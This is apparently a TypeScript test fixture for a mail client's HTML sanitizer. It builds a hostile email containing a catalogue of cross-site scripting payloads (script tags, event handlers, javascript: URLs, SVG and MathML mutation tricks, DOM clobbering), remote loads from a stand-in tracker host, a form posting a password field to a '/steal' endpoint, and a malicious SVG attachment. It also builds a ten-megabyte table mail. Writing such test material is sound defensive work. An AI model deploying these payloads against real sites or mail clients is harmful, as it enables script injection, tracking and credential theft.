const HEAD = ['From: Eve <eve@example.net>', 'To: helpdesk@example.org', 'MIME-Version: 1.0'];
const HTML = 'Content-Type: text/html; charset=utf-8';
const FAR = 'https://tracker.example.net';

/** Ways to have a page run something, of the kinds that public cheat sheets list. `harmed` stands in each. */
const ATTACKS = [
  '<script>window.harmed = 1; alert(1)</script>',
  '<ScRiPt src="https://tracker.example.net/x.js"></ScRiPt>',
  '<scr<script>ipt>window.harmed=1</scr</script>ipt>',
  '<img src=x onerror="window.harmed=1;alert(1)">',
  '<img src="x` `<script>window.harmed=1</script>"` `>',
  '<IMG """><SCRIPT>window.harmed=1</SCRIPT>">',
  '<img src=javascript:alert(1)>',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<body onload="window.harmed=1">',
  '<svg onload="window.harmed=1"><script>window.harmed=1</script></svg>',
  '<svg><animate onbegin="window.harmed=1" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>a picture</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>',
  '<svg><style><img src=x onerror=window.harmed=1></style></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.harmed=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.harmed=1>"></noscript>',
  '<a href="javascript:window.harmed=1">one</a>',
  '<a href="JaVaScRiPt:alert(1)">two</a>',
  '<a href="java\nscript:alert(1)">three</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">four</a>',
  '<a href=" &#14; javascript:alert(1)">five</a>',
  '<a href="data:text/html,<script>alert(1)</script>">six</a>',
  '<a href="vbscript:msgbox(1)">seven</a>',
  '<a href="https://example.org" onclick="window.harmed=1" onmouseover="window.harmed=1">eight</a>',
  '<iframe src="javascript:window.parent.harmed=1"></iframe>',
  '<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>',
  `<object data="${FAR}/x.swf"></object><embed src="${FAR}/x.swf">`,
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  `<base href="${FAR}/"><a href="/here">nine</a>`,
  `<meta http-equiv="refresh" content="0;url=${FAR}/">`,
  `<link rel="stylesheet" href="${FAR}/x.css">`,
  `<style>@import url(${FAR}/y.css); body { background: url(${FAR}/z.png) }</style>`,
  `<div style="background-image:url(${FAR}/a.png)">a</div>`,
  '<div style="width: expression(alert(1));-moz-binding:url(//tracker.example.net/x.xml#x)">b</div>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">c</div>',
  `<img src="${FAR}/pixel.png" width=1 height=1>`,
  `<img srcset="${FAR}/one.png 1x, ${FAR}/two.png 2x">`,
  `<picture><source srcset="${FAR}/p.png"><img alt="p"></picture>`,
  `<video src="${FAR}/v.mp4" poster="${FAR}/v.png" autoplay onplay="window.harmed=1"></video>`,
  `<audio src="${FAR}/a.mp3" autoplay></audio>`,
  `<table background="${FAR}/t.png"><tr><td background="${FAR}/u.png">t</td></tr></table>`,
  `<form action="${FAR}/steal" method=post><input name=password><button autofocus onfocus="window.harmed=1">go</button></form>`,
  '<input type=image src=x onerror=window.harmed=1>',
  '<details open ontoggle="window.harmed=1"><summary>d</summary></details>',
  '<marquee onstart="window.harmed=1">m</marquee>',
  '<keygen autofocus onfocus="window.harmed=1"><select autofocus onfocus="window.harmed=1"></select>',
  '<isindex type=image src=1 onerror=window.harmed=1>',
  '<template><script>window.harmed=1</script></template>',
  '<!--[if gte IE 4]><script>window.harmed=1</script><![endif]-->',
  '<![CDATA[<script>window.harmed=1</script>]]>',
  '<xml id=x><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></c></x></xml>',
  '</textarea><script>window.harmed=1</script>',
  '</title><script>window.harmed=1</script>',
  '<a id="location" name="location" href="https://example.org/clobber">ten</a><img name="getElementById" alt="i">',
];

/** A mail with all of them, a hostile drawing as an attachment that it shows, and one line to wait for. */
export function hostileMail(): string {
  return [
    ...[...HEAD, 'Subject: Please look', 'Message-ID: <hostile@example.net>'],
    ...['Content-Type: multipart/related; boundary=part', '', '--part', HTML, ''],
    ...ATTACKS.map((attack, at) => `<p>${at}: ${attack}</p>`),
    '<img src="cid:drawing@example.net"><p>This line is harmless.</p>',
    ...['', '--part', 'Content-Type: image/svg+xml; name=drawing.svg', 'Content-ID: <drawing@example.net>', ''],
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed=1"><script>window.harmed=1</script></svg>',
    ...['', '--part--', ''],
  ].join('\r\n');
}

/** Ten megabytes of a table. */
export function hugeTable(): string {
  const rows = Array.from(
    { length: 130_000 },
    (_, at) => `<tr><td>Device ${at}</td><td style="color:red">${at * 7}</td></tr>`,
  );
  return [
    ...[...HEAD, 'Subject: All our devices', 'Message-ID: <huge@example.net>', HTML, ''],
    ...['<table>', ...rows, '</table>', ''],
  ].join('\r\n');
}
